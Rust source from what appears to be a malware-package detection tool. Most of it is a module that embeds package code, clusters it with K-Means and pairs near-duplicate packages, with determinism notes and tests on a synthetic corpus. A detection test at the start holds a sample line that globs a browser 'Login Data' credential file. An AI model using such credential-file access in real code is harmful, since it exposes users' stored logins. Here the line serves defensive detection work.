    }

    #[test]
    fn credential_paths() {
        let hits = rules_for("import glob\np = glob.glob('~/.config/app/Login Data')\n");
        assert!(hits.contains(&RuleId::CredentialPaths));
    }

    #[test]
    fn weights_are_positive_and_labels_unique() {
        let mut labels: Vec<_> = RuleId::ALL.iter().map(|r| r.label()).collect();
        labels.sort_unstable();
        labels.dedup();
        assert_eq!(labels.len(), RuleId::ALL.len());
        assert!(RuleId::ALL.iter().all(|r| r.weight() > 0.0));
    }
}
