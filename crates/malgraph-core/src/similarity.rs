//! The similar-edge pipeline: source code → AST → embedding → K-Means →
//! cosine-refined similar pairs (paper §III-A).
//!
//! # Determinism contract
//!
//! [`similar_pairs`] is deterministic for a given input and config, on
//! any machine, at any worker count:
//!
//! * the K-Means engine guarantees bitwise-identical clusterings at any
//!   thread count (fixed chunk boundaries, in-index-order merging — see
//!   `cluster`'s crate docs);
//! * every fan-out here keys its partial results by input index
//!   (embedding chunks, refinement clusters) and merges them in that
//!   index order, never in completion order.
//!
//! Future parallelism must keep both properties: work may be *scheduled*
//! freely, but results must be *combined* in an order derived from the
//! input alone.
//!
//! # The cached pipeline
//!
//! [`similar_pairs_cached`] is the incremental-ingestion entry point:
//! same inputs, same output — asserted bitwise-identical to
//! [`similar_pairs`], which stays untouched as the oracle (the
//! `AnalyzeMode::Uncached` pattern) — but it carries a
//! [`SimilarityCache`] across corpus deltas:
//!
//! * **embedding memo** — parse + embed runs once per package ever
//!   seen; a re-run after a 10% corpus delta embeds only the new
//!   packages, and the pipeline borrows the memoised vectors instead of
//!   cloning them per window. Sound because package code is immutable
//!   once collected and `embed_sparse_into` output is independent of
//!   buffer history (the same property the chunked fan-out already
//!   relies on).
//! * **source interning** — the embedding is a pure function of the
//!   source text, so a never-seen package whose code is byte-identical
//!   to an already-embedded one (flood campaigns republish the same
//!   artifact under hundreds of names) skips parse + embed entirely;
//!   the memo stores the exact source for the equality check, so a hash
//!   collision cannot conflate distinct code.
//! * **distinct-content interning** — each embedding is interned
//!   against every vector ever seen (hash-bucketed with exact bit
//!   comparison), so packages with bitwise-identical embeddings share
//!   one persistent *vid* and one canonical stored vector across
//!   windows.
//! * **collapsed refinement** — within a cluster, every member of a vid
//!   shares the same row bytes, so the screen + dot verdict is computed
//!   once per oriented pair of *distinct contents* instead of once per
//!   member pair (a flood cluster holds thousands of copies of a few
//!   artifacts, collapsing the O(|c|²) walk to O(G²)); orientations
//!   whose nested-loop emission range is provably empty are skipped
//!   outright. A cross-window decision memo was tried and reverted: at
//!   the observed ~55% hit rate the hash-map traffic on a multi-million
//!   entry table costs more than the O(dim) screens it saves.
//!
//! The K-Means schedule is *not* cached: clustering is a global
//! property of the grown corpus, and a warm-start from the previous
//! window's centroids would change the bits. It runs identically in
//! both paths.

use cluster::{kmeans_points, kmeans_warm_points, KMeansConfig, KMeansResult, Kernel, Points};
use embed::{EmbedBuffer, Embedder, SparseEmbedding};
use oss_types::PackageId;
use rand::rngs::StdRng;
use rand::SeedableRng;
use std::collections::hash_map::DefaultHasher;
use std::collections::HashMap;
use std::hash::{Hash, Hasher};

/// Tuning knobs for the similarity pipeline.
#[derive(Debug, Clone)]
pub struct SimilarityConfig {
    /// Embedding dimensionality. The paper uses 3072
    /// (`text-embedding-3-large`); the default is 1024, which the
    /// dimension ablation bench shows recovers the same groups at a
    /// fraction of the cost (below ~512, hash collisions inflate
    /// cross-lineage similarity and groups start to merge).
    pub dim: usize,
    /// Minimum cosine similarity for a similar edge *within* a K-Means
    /// cluster. K-Means alone assigns every point somewhere; the paper
    /// handles the resulting false positives by manual inspection
    /// (§III-C) — this threshold is the automated stand-in.
    pub threshold: f32,
    /// Relative inertia improvement below which the grow-k schedule
    /// stops ("centroids of newly formed clusters do not change").
    pub min_improvement: f32,
    /// Upper bound on k.
    pub max_k: usize,
    /// Geometric growth factor of the k schedule. `1.0` reproduces the
    /// paper's k → k+1 schedule; the default 1.3 is the documented
    /// speed-up for large corpora (same stopping rule).
    pub growth: f64,
    /// RNG seed for k-means++ initialization.
    pub seed: u64,
    /// Worker threads for the embed, assignment and refinement fan-outs;
    /// `0` means `available_parallelism`. Any value yields identical
    /// output (see the module-level determinism contract).
    pub threads: usize,
    /// Assignment/refinement kernel. Every [`Kernel`] produces
    /// bitwise-identical output; the default enables the cache-tiled
    /// sparse kernels with the certified i8 screen.
    pub kernel: Kernel,
}

impl Default for SimilarityConfig {
    fn default() -> Self {
        SimilarityConfig {
            dim: 1024,
            threshold: 0.92,
            min_improvement: 0.10,
            max_k: 256,
            growth: 1.3,
            seed: 0x51,
            threads: 0,
            kernel: Kernel::default(),
        }
    }
}

impl SimilarityConfig {
    /// The paper's exact configuration: 3072 dimensions, k growing by 1.
    pub fn paper() -> Self {
        SimilarityConfig {
            dim: embed::PAPER_DIM,
            growth: 1.0,
            ..SimilarityConfig::default()
        }
    }
}

/// Output of the pipeline: similar pairs plus diagnostics.
#[derive(Debug, Clone)]
pub struct SimilarityOutput {
    /// Unordered similar pairs (indices into the input slice).
    pub pairs: Vec<(usize, usize)>,
    /// The k selected by the schedule.
    pub chosen_k: usize,
    /// `(k, inertia)` trace of the schedule, for the ablation bench.
    pub trace: Vec<(usize, f32)>,
}

/// Persistent state [`similar_pairs_cached`] carries across corpus
/// deltas:
///
/// * the per-package embedding memo, stored as an interned vid (`None`
///   records a parse failure, so broken code is not re-parsed every
///   window either);
/// * the source interner: byte-identical code maps to its memoised
///   verdict without being parsed or embedded at all;
/// * the distinct-content interner: packages whose embeddings are
///   bitwise identical share one persistent vid and one canonical
///   stored vector.
///
/// Sound because a collected package's code is immutable (the memo is
/// keyed by [`PackageId`] and never invalidated, only extended) and
/// the embedding is a pure function of the source text and `dim` (one
/// config per cache — the ingestion pipeline never varies the config
/// mid-stream).
#[derive(Debug, Default)]
pub struct SimilarityCache {
    /// PackageId → interned vid of its embedding; `None` records a
    /// parse failure.
    embedded: HashMap<PackageId, Option<u32>>,
    /// vid → canonical embedding (one owned copy per distinct content,
    /// however many packages carry it).
    reps: Vec<SparseEmbedding>,
    /// Embedding-content hash → vids carrying that hash.
    intern: HashMap<u64, Vec<u32>>,
    /// Source-text hash → `(exact source, verdict)` bucket: the stored
    /// source makes the lookup an exact byte comparison.
    sources: HashMap<u64, Vec<(String, Option<u32>)>>,
}

impl SimilarityCache {
    /// An empty cache.
    pub fn new() -> SimilarityCache {
        SimilarityCache::default()
    }

    /// Number of memoised packages (including parse failures).
    pub fn len(&self) -> usize {
        self.embedded.len()
    }

    /// Whether the memo is empty.
    pub fn is_empty(&self) -> bool {
        self.embedded.is_empty()
    }

    /// Interns a vector's content, returning its persistent vid.
    fn intern_vid(&mut self, vector: &SparseEmbedding) -> u32 {
        let bucket = self.intern.entry(content_hash(vector)).or_default();
        match bucket
            .iter()
            .copied()
            .find(|&v| content_equal(&self.reps[v as usize], vector))
        {
            Some(v) => v,
            None => {
                let v = u32::try_from(self.reps.len()).expect("corpus too large");
                self.reps.push(vector.clone());
                bucket.push(v);
                v
            }
        }
    }

    /// Looks up a never-seen package's source text; a byte-exact match
    /// serves the memoised verdict without parsing.
    fn source_verdict(&self, code: &str) -> Option<Option<u32>> {
        self.sources
            .get(&source_hash(code))?
            .iter()
            .find(|(s, _)| s == code)
            .map(|(_, verdict)| *verdict)
    }

    /// Records a freshly computed verdict under its source text.
    fn intern_source(&mut self, code: &str, verdict: Option<u32>) {
        let bucket = self.sources.entry(source_hash(code)).or_default();
        if !bucket.iter().any(|(s, _)| s == code) {
            bucket.push((code.to_string(), verdict));
        }
    }
}

/// Hash of a vector's exact content (indices plus value bits).
fn content_hash(vector: &SparseEmbedding) -> u64 {
    let mut hasher = DefaultHasher::new();
    vector.indices().hash(&mut hasher);
    for &x in vector.values() {
        x.to_bits().hash(&mut hasher);
    }
    hasher.finish()
}

/// Bitwise content equality of two sparse vectors.
fn content_equal(a: &SparseEmbedding, b: &SparseEmbedding) -> bool {
    a.indices() == b.indices()
        && a.values().len() == b.values().len()
        && a.values()
            .iter()
            .zip(b.values())
            .all(|(x, y)| x.to_bits() == y.to_bits())
}

/// Hash of a package's source text, bucketing the source interner.
fn source_hash(code: &str) -> u64 {
    let mut hasher = DefaultHasher::new();
    code.hash(&mut hasher);
    hasher.finish()
}

/// Resolves a configured worker count (`0` = `available_parallelism`),
/// never exceeding the number of work items.
fn resolve_threads(requested: usize, items: usize) -> usize {
    let threads = if requested == 0 {
        std::thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(1)
    } else {
        requested
    };
    threads.clamp(1, items.max(1))
}

/// Phase 1: parse + embed — embarrassingly parallel, fanned out across
/// cores with crossbeam scoped threads. Each worker reuses one
/// `EmbedBuffer` across its whole chunk (no per-module `dim`-sized
/// allocation) and emits *sparse* embeddings — a feature-hashed module
/// touches a few hundred of `dim` buckets, so the batch costs
/// O(features) memory per module instead of O(dim).
///
/// Returns the embedded vectors plus `owners` (the entry index each
/// vector came from, ascending). Unparseable entries are skipped.
fn embed_entries(
    entries: &[(PackageId, &str)],
    config: &SimilarityConfig,
) -> (Vec<SparseEmbedding>, Vec<usize>) {
    let phase = obs::span!("similarity/embed");
    obs::counter_add("similarity.entries", entries.len() as u64);
    let embedder = Embedder::new(config.dim);
    let threads = resolve_threads(config.threads, entries.len());
    let chunk_size = entries.len().div_ceil(threads.max(1)).max(1);
    let embedded: Vec<(usize, SparseEmbedding)> = crossbeam::thread::scope(|scope| {
        let mut handles = Vec::new();
        for (c, chunk) in entries.chunks(chunk_size).enumerate() {
            let embedder = &embedder;
            handles.push(scope.spawn(move |_| {
                let base = c * chunk_size;
                let mut buf = EmbedBuffer::new();
                let mut out = Vec::with_capacity(chunk.len());
                for (j, (_, code)) in chunk.iter().enumerate() {
                    if let Ok(module) = minilang::parse(code) {
                        out.push((base + j, embedder.embed_sparse_into(&module, &mut buf)));
                    }
                }
                out
            }));
        }
        let mut all = Vec::with_capacity(entries.len());
        for handle in handles {
            all.extend(handle.join().expect("embed worker must not panic"));
        }
        all
    })
    .expect("crossbeam scope");
    let mut vectors: Vec<SparseEmbedding> = Vec::with_capacity(embedded.len());
    let mut owners: Vec<usize> = Vec::with_capacity(embedded.len());
    for (owner, vector) in embedded {
        vectors.push(vector);
        owners.push(owner);
    }
    obs::counter_add("similarity.parse_failures", (entries.len() - vectors.len()) as u64);
    drop(phase);
    (vectors, owners)
}

/// Phase 1, memoised: parses and embeds only source text the cache has
/// never seen. Never-seen *packages* whose code is byte-identical to a
/// memoised source (or to an earlier entry in this same batch) are
/// served the interned verdict without being parsed; the remaining true
/// misses are fanned out in miss-list order and merged by index, then
/// both their embedding content and their source are interned. The
/// caller assembles `(vectors, owners)` from the memo by reference — no
/// per-window clone of the whole corpus.
fn embed_misses(
    entries: &[(PackageId, &str)],
    config: &SimilarityConfig,
    cache: &mut SimilarityCache,
) {
    // Triage: memoised id → done; memoised source → copy the verdict;
    // repeated in-batch source → defer to the first occurrence.
    let mut misses: Vec<usize> = Vec::new();
    let mut dup_of: Vec<(usize, usize)> = Vec::new();
    let mut pending: HashMap<u64, Vec<usize>> = HashMap::new();
    let mut id_hits = 0u64;
    let mut source_hits = 0u64;
    for (i, (id, code)) in entries.iter().enumerate() {
        if cache.embedded.contains_key(id) {
            id_hits += 1;
            continue;
        }
        if let Some(verdict) = cache.source_verdict(code) {
            cache.embedded.insert(id.clone(), verdict);
            source_hits += 1;
            continue;
        }
        let bucket = pending.entry(source_hash(code)).or_default();
        match bucket.iter().copied().find(|&m| entries[misses[m]].1 == *code) {
            Some(m) => {
                dup_of.push((i, m));
                source_hits += 1;
            }
            None => {
                bucket.push(misses.len());
                misses.push(i);
            }
        }
    }
    obs::counter_add("similarity.embed_cache_hits", id_hits);
    obs::counter_add("similarity.embed_source_hits", source_hits);
    obs::counter_add("similarity.embed_cache_misses", misses.len() as u64);
    if misses.is_empty() {
        return;
    }
    let embedder = Embedder::new(config.dim);
    let threads = resolve_threads(config.threads, misses.len());
    let chunk_size = misses.len().div_ceil(threads.max(1)).max(1);
    let embedded: Vec<(usize, Option<SparseEmbedding>)> = crossbeam::thread::scope(|scope| {
        let mut handles = Vec::new();
        for chunk in misses.chunks(chunk_size) {
            let embedder = &embedder;
            handles.push(scope.spawn(move |_| {
                let mut buf = EmbedBuffer::new();
                let mut out = Vec::with_capacity(chunk.len());
                for &i in chunk {
                    let vector = minilang::parse(entries[i].1)
                        .ok()
                        .map(|module| embedder.embed_sparse_into(&module, &mut buf));
                    out.push((i, vector));
                }
                out
            }));
        }
        let mut all = Vec::with_capacity(misses.len());
        for handle in handles {
            all.extend(handle.join().expect("embed worker must not panic"));
        }
        all
    })
    .expect("crossbeam scope");
    let mut verdicts: Vec<Option<u32>> = Vec::with_capacity(misses.len());
    for (i, vector) in embedded {
        let verdict = vector.as_ref().map(|v| cache.intern_vid(v));
        cache.embedded.insert(entries[i].0.clone(), verdict);
        cache.intern_source(entries[i].1, verdict);
        verdicts.push(verdict);
    }
    for (i, m) in dup_of {
        cache.embedded.insert(entries[i].0.clone(), verdicts[m]);
    }
}

/// Phase 2: grow-k K-Means (paper §III-A: start at 3, grow until
/// stable). Each step warm-starts from the previous step's centroids
/// and k-means++-seeds only the `next_k - k` new ones, so the schedule
/// pays incremental refinement instead of a full re-convergence at
/// every k.
fn run_schedule(points: &Points, config: &SimilarityConfig) -> (KMeansResult, Vec<(usize, f32)>) {
    let phase = obs::span!("similarity/schedule");
    let mut rng = StdRng::seed_from_u64(config.seed);
    let kconfig = KMeansConfig {
        threads: config.threads,
        kernel: config.kernel,
        ..KMeansConfig::default()
    };
    let mut k = 3usize.min(points.n());
    let mut best = kmeans_points(points, k, &kconfig, &mut rng);
    let mut trace = vec![(k, best.inertia)];
    let max_k = config.max_k.min(points.n());
    while k < max_k {
        let next_k = (((k as f64) * config.growth) as usize).max(k + 1).min(max_k);
        let next = kmeans_warm_points(points, &best.centroids, next_k - k, &kconfig, &mut rng);
        trace.push((next_k, next.inertia));
        let improvement = if best.inertia <= f32::EPSILON {
            0.0
        } else {
            (best.inertia - next.inertia) / best.inertia
        };
        if improvement < config.min_improvement {
            break;
        }
        best = next;
        k = next_k;
    }
    obs::counter_add("similarity.schedule_steps", trace.len() as u64);
    drop(phase);
    (best, trace)
}

/// Distributes clusters largest-first onto the least-loaded of
/// `threads` buckets (LPT on the pair count), so one flood cluster
/// cannot serialize the tail.
fn lpt_buckets(clusters: &[Vec<usize>], threads: usize) -> Vec<Vec<usize>> {
    let mut order: Vec<usize> = (0..clusters.len()).collect();
    order.sort_by_key(|&c| std::cmp::Reverse(clusters[c].len()));
    let mut buckets: Vec<Vec<usize>> = vec![Vec::new(); threads];
    let mut loads: Vec<u64> = vec![0; threads];
    for c in order {
        let w = (0..threads).min_by_key(|&w| loads[w]).expect("threads >= 1");
        let size = clusters[c].len() as u64;
        loads[w] += size * size.saturating_sub(1) / 2;
        buckets[w].push(c);
    }
    buckets
}

/// Phase 3: cosine-refined pairs within each cluster. The big clusters
/// (floods) dominate this O(|c|²) step. Workers are bounded by the
/// configured thread count (not one thread per cluster) and clusters
/// are distributed largest-first onto the least-loaded worker. Embedder
/// outputs are L2-normalized, so the similarity is a single sparse dot
/// product — and with the quantized kernel, most pairs never pay even
/// that: the certified i8 upper bound proves them `< threshold` first
/// (survivors are rescored exactly, so the pair set is bitwise
/// identical — see `cluster::matrix`). The screen is only sound for
/// `threshold > -1`: at `threshold ≤ -1` the exact path's clamp to `-1`
/// could lift a provably-small dot back over the threshold.
/// Determinism: each worker tags its output with the cluster index and
/// the merge flattens in cluster-index order, so the pair list does not
/// depend on the worker count or scheduling.
fn refine_pairs(
    points: &Points,
    clusters: &[Vec<usize>],
    owners: &[usize],
    config: &SimilarityConfig,
) -> Vec<(usize, usize)> {
    let phase = obs::span!("similarity/refine");
    let quant = (config.kernel == Kernel::TiledQuantized && config.threshold > -1.0)
        .then(|| points.quant());
    let threads = resolve_threads(config.threads, clusters.len());
    let buckets = lpt_buckets(clusters, threads);
    // Pair lists a worker produces, tagged with their cluster index,
    // plus the worker's screen tallies.
    type TaggedPairs = (Vec<(usize, Vec<(usize, usize)>)>, u64, u64);
    let mut by_cluster: Vec<Vec<(usize, usize)>> = vec![Vec::new(); clusters.len()];
    let refined: Vec<TaggedPairs> = crossbeam::thread::scope(|scope| {
        let handles: Vec<_> = buckets
            .iter()
            .map(|bucket| {
                scope.spawn(move |_| {
                    let threshold = f64::from(config.threshold);
                    let (matrix, sparse) = (points.matrix(), points.sparse());
                    let mut pruned = 0u64;
                    let mut rescored = 0u64;
                    let tagged = bucket
                        .iter()
                        .map(|&c| {
                            let members = &clusters[c];
                            let mut local = Vec::new();
                            for a in 0..members.len() {
                                for b in (a + 1)..members.len() {
                                    let (ia, ib) = (members[a], members[b]);
                                    if let Some(q) = quant {
                                        if q.pair_upper_bound(ia, q, ib) < threshold {
                                            pruned += 1;
                                            continue;
                                        }
                                    }
                                    rescored += 1;
                                    // Gather-based sparse·dense dot: same
                                    // bits as the dense dot (zero-skip
                                    // lemma, see `cluster::matrix`), no
                                    // branchy merge walk. The dense-scalar
                                    // kernel keeps the pre-kernel dense
                                    // path as the benchmark baseline.
                                    let dot = match config.kernel {
                                        Kernel::DenseScalar => cluster::matrix::dense_dot(
                                            matrix.row(ia),
                                            matrix.row(ib),
                                        ),
                                        _ => {
                                            let (si, sv) = sparse.row(ia);
                                            cluster::matrix::sparse_dot_dense(
                                                si,
                                                sv,
                                                matrix.row(ib),
                                            )
                                        }
                                    };
                                    if dot.clamp(-1.0, 1.0) >= config.threshold {
                                        local.push((owners[ia], owners[ib]));
                                    }
                                }
                            }
                            (c, local)
                        })
                        .collect();
                    (tagged, pruned, rescored)
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("refine worker must not panic"))
            .collect()
    })
    .expect("crossbeam scope");
    let mut pruned_total = 0u64;
    let mut rescored_total = 0u64;
    for (tagged, pruned, rescored) in refined {
        pruned_total += pruned;
        rescored_total += rescored;
        for (c, local) in tagged {
            by_cluster[c] = local;
        }
    }
    let pairs: Vec<(usize, usize)> = by_cluster.into_iter().flatten().collect();
    obs::counter_add("similarity.pairs", pairs.len() as u64);
    obs::counter_add("kernel.pruned_quantized", pruned_total);
    obs::counter_add("kernel.rescored", rescored_total);
    drop(phase);
    pairs
}

/// Groups a cluster's member positions by vid, in first-appearance
/// order; each group holds ascending member positions sharing one
/// distinct vector content.
fn group_by_vid(members: &[usize], vid_of: &[u32]) -> Vec<Vec<usize>> {
    let mut group_of: HashMap<u32, usize> = HashMap::new();
    let mut groups: Vec<Vec<usize>> = Vec::new();
    for (pos, &m) in members.iter().enumerate() {
        let v = vid_of[m];
        let g = *group_of.entry(v).or_insert_with(|| {
            groups.push(Vec::new());
            groups.len() - 1
        });
        groups[g].push(pos);
    }
    groups
}

/// Phase 3, collapsed: bitwise the same pair list as [`refine_pairs`],
/// paying each screen + dot once per *oriented pair of distinct vector
/// contents* within a cluster instead of once per member pair.
///
/// Soundness: the decision for `(ia, ib)` is a pure function of the
/// bytes of rows `ia` and `ib` (quant scales, l1/norm terms and the
/// dots are all row-content-derived), so every member pair with the
/// same `(vid_from, vid_to)` orientation shares its representative's
/// decision exactly. Orientation is preserved (the sparse·dense dot is
/// not guaranteed bitwise-symmetric), and an orientation whose
/// nested-loop emission range is provably empty — every position of one
/// group precedes every position of the other — skips its decision
/// outright, since no emitted pair could consume it. Emission replays
/// the plain nested member walk with each pair's verdict served as a
/// byte lookup in the per-cluster group matrix, so accepted pairs
/// appear in exactly the original nested-loop order with no sort.
fn refine_pairs_grouped(
    points: &Points,
    vid_of: &[u32],
    clusters: &[Vec<usize>],
    owners: &[usize],
    config: &SimilarityConfig,
) -> Vec<(usize, usize)> {
    let phase = obs::span!("similarity/refine");
    let distinct: std::collections::HashSet<u32> = vid_of.iter().copied().collect();
    obs::counter_add("similarity.distinct_vectors", distinct.len() as u64);
    let quant = (config.kernel == Kernel::TiledQuantized && config.threshold > -1.0)
        .then(|| points.quant());
    let threads = resolve_threads(config.threads, clusters.len());
    let buckets = lpt_buckets(clusters, threads);
    type TaggedPairs = (Vec<(usize, Vec<(usize, usize)>)>, u64, u64);
    let mut by_cluster: Vec<Vec<(usize, usize)>> = vec![Vec::new(); clusters.len()];
    let refined: Vec<TaggedPairs> = crossbeam::thread::scope(|scope| {
        let handles: Vec<_> = buckets
            .iter()
            .map(|bucket| {
                scope.spawn(move |_| {
                    let threshold = f64::from(config.threshold);
                    let (matrix, sparse) = (points.matrix(), points.sparse());
                    let mut pruned = 0u64;
                    let mut rescored = 0u64;
                    let mut decide = |x: usize, y: usize| -> bool {
                        if let Some(q) = quant {
                            if q.pair_upper_bound(x, q, y) < threshold {
                                pruned += 1;
                                return false;
                            }
                        }
                        rescored += 1;
                        let dot = match config.kernel {
                            Kernel::DenseScalar => {
                                cluster::matrix::dense_dot(matrix.row(x), matrix.row(y))
                            }
                            _ => {
                                let (si, sv) = sparse.row(x);
                                cluster::matrix::sparse_dot_dense(si, sv, matrix.row(y))
                            }
                        };
                        dot.clamp(-1.0, 1.0) >= config.threshold
                    };
                    let tagged = bucket
                        .iter()
                        .map(|&c| {
                            let members = &clusters[c];
                            let groups = group_by_vid(members, vid_of);
                            let g = groups.len();
                            // Each member position's group, and the
                            // oriented per-group decision matrix
                            // (`1` = accept). Entries for orientations
                            // whose emission range below is empty stay
                            // `0` unconsulted.
                            let mut gid: Vec<u32> = vec![0; members.len()];
                            for (gi, pi) in groups.iter().enumerate() {
                                for &p in pi {
                                    gid[p] = gi as u32;
                                }
                            }
                            let mut verdicts: Vec<u8> = vec![0; g * g];
                            for gi in 0..g {
                                let pi = &groups[gi];
                                if pi.len() >= 2 && decide(members[pi[0]], members[pi[1]]) {
                                    verdicts[gi * g + gi] = 1;
                                }
                                for gj in (gi + 1)..g {
                                    let pj = &groups[gj];
                                    // Orientation (vid_i → vid_j): some
                                    // pair has its earlier position in
                                    // pi — always, since groups are in
                                    // first-appearance order.
                                    debug_assert!(pi[0] < pj[0]);
                                    if decide(members[pi[0]], members[pj[0]]) {
                                        verdicts[gi * g + gj] = 1;
                                    }
                                    // Orientation (vid_j → vid_i):
                                    // consulted only if some pi position
                                    // follows pj's first.
                                    if pj[0] < *pi.last().expect("groups are non-empty")
                                        && decide(members[pj[0]], members[pi[0]])
                                    {
                                        verdicts[gj * g + gi] = 1;
                                    }
                                }
                            }
                            // Emission: the plain nested member walk —
                            // already the canonical order, no sort —
                            // with each pair's verdict a byte lookup.
                            let mut local: Vec<(usize, usize)> = Vec::new();
                            for a in 0..members.len() {
                                let row = &verdicts[gid[a] as usize * g..][..g];
                                for b in (a + 1)..members.len() {
                                    if row[gid[b] as usize] != 0 {
                                        local.push((owners[members[a]], owners[members[b]]));
                                    }
                                }
                            }
                            (c, local)
                        })
                        .collect();
                    (tagged, pruned, rescored)
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("refine worker must not panic"))
            .collect()
    })
    .expect("crossbeam scope");
    let mut pruned_total = 0u64;
    let mut rescored_total = 0u64;
    for (tagged, pruned, rescored) in refined {
        pruned_total += pruned;
        rescored_total += rescored;
        for (c, local) in tagged {
            by_cluster[c] = local;
        }
    }
    let pairs: Vec<(usize, usize)> = by_cluster.into_iter().flatten().collect();
    obs::counter_add("similarity.pairs", pairs.len() as u64);
    obs::counter_add("kernel.pruned_quantized", pruned_total);
    obs::counter_add("kernel.rescored", rescored_total);
    drop(phase);
    pairs
}

/// Runs the pipeline over `(package, code)` entries belonging to one
/// ecosystem. Unparseable code is skipped (it can never join a group,
/// exactly like a package the Packj extractor chokes on).
pub fn similar_pairs(
    entries: &[(PackageId, &str)],
    config: &SimilarityConfig,
) -> SimilarityOutput {
    let (vectors, owners) = embed_entries(entries, config);
    if vectors.len() < 2 {
        return SimilarityOutput {
            pairs: Vec::new(),
            chosen_k: 0,
            trace: Vec::new(),
        };
    }
    // One `Points` build per call: dense SoA matrix + CSR view + (lazy)
    // quantized companion, shared by every K-Means run of the schedule
    // and by the refinement screen.
    let rows: Vec<(&[u32], &[f32])> = vectors
        .iter()
        .map(|v| (v.indices(), v.values()))
        .collect();
    let points = Points::from_sparse_rows(config.dim, &rows);
    let (best, trace) = run_schedule(&points, config);
    let clusters = best.clusters();
    let pairs = refine_pairs(&points, &clusters, &owners, config);
    SimilarityOutput {
        pairs,
        chosen_k: best.k(),
        trace,
    }
}

/// [`similar_pairs`] with a persistent [`SimilarityCache`]: the
/// incremental-ingestion fast path. Output is bitwise-identical to
/// [`similar_pairs`] over the same entries and config (see the
/// module-level docs for why); the win is that only never-seen *source
/// text* is parsed and embedded (everything else is borrowed from the
/// memo — flood campaigns re-publish the same artifacts, so mature
/// windows embed almost nothing), and the refinement pays its screen +
/// dot once per oriented distinct-content pair per cluster instead of
/// once per member pair.
pub fn similar_pairs_cached(
    entries: &[(PackageId, &str)],
    config: &SimilarityConfig,
    cache: &mut SimilarityCache,
) -> SimilarityOutput {
    let phase = obs::span!("similarity/embed");
    obs::counter_add("similarity.entries", entries.len() as u64);
    embed_misses(entries, config, cache);
    // Assemble `(vectors, owners, vids)` in entry order by reference —
    // bit-for-bit the rows `embed_entries` would produce.
    let mut vectors: Vec<&SparseEmbedding> = Vec::with_capacity(entries.len());
    let mut owners: Vec<usize> = Vec::with_capacity(entries.len());
    let mut vid_of: Vec<u32> = Vec::with_capacity(entries.len());
    let mut failures = 0u64;
    for (i, (id, _)) in entries.iter().enumerate() {
        match cache.embedded.get(id).expect("every entry was just memoised") {
            Some(vid) => {
                vectors.push(&cache.reps[*vid as usize]);
                owners.push(i);
                vid_of.push(*vid);
            }
            None => failures += 1,
        }
    }
    obs::counter_add("similarity.parse_failures", failures);
    drop(phase);
    if vectors.len() < 2 {
        return SimilarityOutput {
            pairs: Vec::new(),
            chosen_k: 0,
            trace: Vec::new(),
        };
    }
    let rows: Vec<(&[u32], &[f32])> = vectors
        .iter()
        .map(|v| (v.indices(), v.values()))
        .collect();
    let points = Points::from_sparse_rows(config.dim, &rows);
    let (best, trace) = run_schedule(&points, config);
    let clusters = best.clusters();
    let pairs = refine_pairs_grouped(&points, &vid_of, &clusters, &owners, config);
    SimilarityOutput {
        pairs,
        chosen_k: best.k(),
        trace,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use minilang::gen::{generate, mutate, Behavior, Mutation};
    use minilang::printer::print_module;
    use rand::Rng;

    /// Builds `families` code families with `per` members each.
    fn corpus(families: usize, per: usize, seed: u64) -> Vec<(PackageId, String)> {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut out = Vec::new();
        for f in 0..families {
            let behavior = Behavior::ALL[f % Behavior::ALL.len()];
            let base = generate(behavior, &mut rng);
            let mut current = base;
            for m in 0..per {
                if m > 0 && rng.gen_bool(0.5) {
                    let mutation = Mutation::ALL[m % Mutation::ALL.len()];
                    current = mutate(&current, mutation, &mut rng);
                }
                let id: PackageId = format!("pypi/fam{f}-pkg{m}@1.0.0").parse().unwrap();
                out.push((id, print_module(&current)));
            }
        }
        out
    }

    fn components(n: usize, pairs: &[(usize, usize)]) -> Vec<Vec<usize>> {
        let mut uf = graphstore::unionfind::UnionFind::new(n);
        for &(a, b) in pairs {
            uf.union(a, b);
        }
        let mut map: std::collections::BTreeMap<usize, Vec<usize>> = Default::default();
        for i in 0..n {
            map.entry(uf.find(i)).or_default().push(i);
        }
        map.into_values().filter(|c| c.len() > 1).collect()
    }

    #[test]
    fn recovers_code_families() {
        let data = corpus(4, 8, 1);
        let entries: Vec<(PackageId, &str)> =
            data.iter().map(|(id, c)| (id.clone(), c.as_str())).collect();
        let out = similar_pairs(&entries, &SimilarityConfig::default());
        let comps = components(entries.len(), &out.pairs);
        // Family members must never be split across groups in a way that
        // merges two behaviours: check purity by index range.
        for comp in &comps {
            let family = comp[0] / 8;
            assert!(
                comp.iter().all(|&i| i / 8 == family),
                "component mixes families: {comp:?}"
            );
        }
        // And most family pairs should be recovered.
        let recovered: usize = comps.iter().map(|c| c.len()).sum();
        assert!(
            recovered >= entries.len() / 2,
            "too few grouped: {recovered}/{}",
            entries.len()
        );
    }

    #[test]
    fn unparseable_code_is_skipped_silently() {
        let id: PackageId = "pypi/broken@1.0.0".parse().unwrap();
        let good = corpus(1, 3, 2);
        let mut entries: Vec<(PackageId, &str)> =
            good.iter().map(|(i, c)| (i.clone(), c.as_str())).collect();
        entries.push((id, "this is not ( valid code"));
        let out = similar_pairs(&entries, &SimilarityConfig::default());
        let broken_idx = entries.len() - 1;
        assert!(
            out.pairs.iter().all(|&(a, b)| a != broken_idx && b != broken_idx),
            "broken code must not join any group"
        );
    }

    #[test]
    fn empty_and_singleton_inputs() {
        let empty: Vec<(PackageId, &str)> = Vec::new();
        assert!(similar_pairs(&empty, &SimilarityConfig::default()).pairs.is_empty());
        let one = corpus(1, 1, 3);
        let entries: Vec<(PackageId, &str)> =
            one.iter().map(|(i, c)| (i.clone(), c.as_str())).collect();
        assert!(similar_pairs(&entries, &SimilarityConfig::default()).pairs.is_empty());
    }

    #[test]
    fn pipeline_is_deterministic() {
        let data = corpus(3, 5, 4);
        let entries: Vec<(PackageId, &str)> =
            data.iter().map(|(i, c)| (i.clone(), c.as_str())).collect();
        let a = similar_pairs(&entries, &SimilarityConfig::default());
        let b = similar_pairs(&entries, &SimilarityConfig::default());
        assert_eq!(a.pairs, b.pairs);
        assert_eq!(a.chosen_k, b.chosen_k);
    }

    #[test]
    fn higher_threshold_never_adds_pairs() {
        let data = corpus(3, 6, 5);
        let entries: Vec<(PackageId, &str)> =
            data.iter().map(|(i, c)| (i.clone(), c.as_str())).collect();
        let loose = similar_pairs(
            &entries,
